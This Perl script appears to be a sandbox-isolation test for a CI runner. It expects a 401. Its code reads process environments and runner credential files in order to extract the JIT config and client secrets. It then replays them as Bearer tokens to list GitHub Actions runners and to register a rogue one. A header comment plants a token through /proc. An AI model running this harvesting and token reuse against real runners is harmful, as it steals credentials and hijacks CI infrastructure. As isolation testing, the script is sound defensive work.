#!/usr/bin/perl
# tries: GitHub's API with what its own one-use config has: to list runners, and to make one
# as: job
# wall: no token in a container
# expect: 401
# without: host printf %s "$TOKEN" >/proc/$LEADER/root/tmp/found; chmod 644 /proc/$LEADER/root/tmp/found
#   undo rm /proc/$LEADER/root/tmp/found

use strict; use IO::Socket::INET;
my @secrets;
for my $file (glob('/proc/[0-9]*/environ'), glob('/opt/actions-runner/.cred*'), '/tmp/found') {
    open(my $in, '<', $file) or next;
    local $/; my $text = <$in> // '';
    push @secrets, $1 if $text =~ /ACTIONS_RUNNER_INPUT_JITCONFIG=([^\0]+)/;
    push @secrets, $1 while $text =~ /"(?:d|p|clientId|clientSecret)"\s*:\s*"([^"]+)"/g;
    push @secrets, $text if $file eq '/tmp/found';
}
die 'not even its own config' unless grep { length > 500 } @secrets;
my ($host, $port) = $ENV{GITHUB} =~ m{//([^:]+):(\d+)} or die;
my %answers;
for my $secret (@secrets) {
    $secret =~ s/\s//g;
    for my $call ('GET /repos/acme/widgets/actions/runners', 'POST /repos/acme/widgets/actions/runners/generate-jitconfig') {
        my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port) or die "$!";
        my $body = $call =~ /^POST/ ? '{"name":"attack","runner_group_id":1,"labels":["ci"]}' : '';
        print $s "$call HTTP/1.1\r\nHost: $host:$port\r\nAuthorization: Bearer $secret\r\nUser-Agent: attack\r\n",
            "Accept: application/vnd.github+json\r\nConnection: close\r\nContent-Type: application/json\r\n",
            "Content-Length: ", length $body, "\r\n\r\n$body";
        my ($status) = (<$s> // '') =~ /^HTTP\S+ (\d+)/;
        if ($status =~ /^2/) { print "got $status for $call\n"; exit 0 }
        $answers{$status}++;
    }
}
print "refused: @{[ map { qq{$_ x $answers{$_}} } sort keys %answers ]}\n";
exit 1;
